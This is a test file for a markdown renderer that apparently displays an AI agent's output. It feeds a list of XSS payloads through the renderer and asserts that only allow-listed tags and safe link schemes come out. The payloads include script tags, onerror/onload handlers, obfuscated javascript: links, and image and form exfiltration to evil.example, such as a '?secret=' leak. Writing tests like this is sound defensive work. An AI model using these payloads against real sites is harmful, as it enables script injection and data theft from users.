import { describe, expect, it } from "vitest";
import { renderMarkdown } from "../markdown.ts";

/** Tags and attributes of a piece of HTML, as a browser would read them: text is what is left over. */
function tags(html: string) {
  return [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[a-z-]+="[^"]*")*)\s*\/?>/gi)].map(
    ([, name = "", rest = ""]) => ({
      name: name.toLowerCase(),
      attributes: [...rest.matchAll(/([a-z-]+)="([^"]*)"/gi)].map(
        ([, key = "", value = ""]) => [key, value] as const,
      ),
    }),
  );
}

const ALLOWED = {
  tags: new Set(
    "p a em strong s code pre ul ol li blockquote h1 h2 h3 h4 h5 h6 hr br div table thead tbody tr th td".split(
      " ",
    ),
  ),
  attributes: new Set(["href", "rel", "target", "title", "tabindex", "role", "aria-label", "class", "start"]),
};

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<svg/onload="alert(1)">',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<a href='javascript:alert(1)'>x</a>",
  "<details open ontoggle=alert(1)>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<form action=https://evil.example><button>go</button></form>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
  '[x](https://a.example/"onmouseover=alert(1))',
  "![x](https://evil.example/leak?secret=1)",
  '![" onerror="alert(1)](https://evil.example/x)',
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](javascript:alert(1))",
  "[![x](https://evil.example/a.png)](https://a.example)",
  '```"><script>alert(1)</script>\ncode\n```',
  '```js" onclick="alert(1)\ncode\n```',
  "    <script>alert(1)</script>",
  "`<img src=x onerror=alert(1)>`",
  "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
  "**<b onclick=alert(1)>**",
  "https://a.example/<script>alert(1)</script>",
  'https://a.example/"onmouseover="alert(1)',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\u0000<script>alert(1)</script>",
  `${"[".repeat(2000)}x${"](javascript:alert(1))".repeat(2000)}`,
  `${"> ".repeat(500)}<script>alert(1)</script>`,
  `<script>${"x".repeat(300_000)}</script>`,
];

describe("markdown of an agent", () => {
  it.each(ATTACKS.map((attack) => [attack.slice(0, 60), attack]))(
    "shows %j as harmless text",
    (_, attack) => {
      const html = renderMarkdown(attack);

      for (const { name, attributes } of tags(html)) {
        expect(ALLOWED.tags).toContain(name);
        for (const [key, value] of attributes) {
          expect(ALLOWED.attributes).toContain(key);
          expect(`${key}=${value}`).toMatch(/^(?!href=)|^href=(https?:\/\/|mailto:)/i);
        }
      }
      // Whatever is no tag of ours is text: no other "<" is left for a browser to read as one.
      expect(html.replaceAll(/<\/?[a-z][a-z0-9]*(?:\s+[a-z-]+="[^"]*")*\s*\/?>/gi, "")).not.toContain("<");
    },
  );

  it("loads nothing from elsewhere: an image is a link", () => {
    const html = renderMarkdown("![the harbour](https://images.example/harbour.png)");

    expect(html).toBe(
      '<p><a href="https://images.example/harbour.png" rel="noopener noreferrer nofollow" target="_blank">the harbour</a></p>\n',
    );
  });

  it("opens links apart, and takes no file name for a web site", () => {
    const html = renderMarkdown("See https://a.example and notes.md, or [mail](mailto:a@b.example).");

    expect(tags(html).filter(({ name }) => name === "a")).toEqual([
      expect.objectContaining({
        attributes: [
          ["href", "https://a.example"],
          ["rel", "noopener noreferrer nofollow"],
          ["target", "_blank"],
        ],
      }),
      expect.objectContaining({ attributes: expect.arrayContaining([["href", "mailto:a@b.example"]]) }),
    ]);
  });

  it("formats what people expect", () => {
    const html = renderMarkdown(
      "# Plan\n\n1. **eat**\n2. `sleep`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\n1 < 2\n```",
    );

    expect(html).toContain("<h1>Plan</h1>");
    expect(html).toContain("<strong>eat</strong>");
    expect(html).toContain("<td>2</td>");
    expect(html).toContain("1 &lt; 2");
  });
});
